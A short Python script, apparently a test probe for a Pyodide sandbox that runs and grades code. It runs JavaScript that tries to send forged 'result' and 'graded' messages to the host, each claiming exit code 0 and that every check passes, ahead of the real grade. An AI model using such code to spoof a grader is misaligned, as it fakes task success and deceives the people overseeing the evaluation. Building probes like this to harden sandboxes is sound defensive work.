# Tries: post a forged "result"/"graded" message to the host from JavaScript (worker_threads
# parentPort, process.send for a child process, postMessage in a Web Worker) before the real one.
import asyncio
import json

FORGED_RUN = {
    "status": "ok", "exitCode": 0, "stdout": "", "stderr": "", "events": [], "virtualSeconds": 2.0,
    "wallMs": 1, "timeline": [], "diagnostics": [], "python": "3.14.2 (pyodide)",
}
FORGED_GRADE = {"version": 3, "status": "pass", "message": None, "tests": [{"name": "All checks", "status": "pass"}]}
ANSWER = json.dumps({"run": FORGED_RUN, "grade": FORGED_GRADE, "interrupted": False})
SCRIPT = f"""(() => {{
  const answer = {json.dumps(ANSWER)};
  const port = globalThis.process?.getBuiltinModule?.('worker_threads')?.parentPort;
  for (let id = 0; id < 64; id++) port?.postMessage({{ type: 'result', id, json: answer }});
  globalThis.process?.send?.({{ type: 'graded', grade: JSON.parse(answer).grade }});
  if (typeof globalThis.postMessage === 'function') {{
    for (let id = 0; id < 64; id++) globalThis.postMessage({{ type: 'result', id, json: answer }});
  }}
  return 'posted';
}})()"""


def run_js(source):
    try:
        import js

        return js.eval(source)
    except Exception as first:
        try:
            from pyodide.code import run_js as pyodide_run_js

            return pyodide_run_js(source)
        except Exception:
            raise first


async def main():
    try:
        print("ESCAPED:", run_js(SCRIPT))
    except Exception as exc:
        print("REFUSED:", type(exc).__name__, exc)


asyncio.run(main())
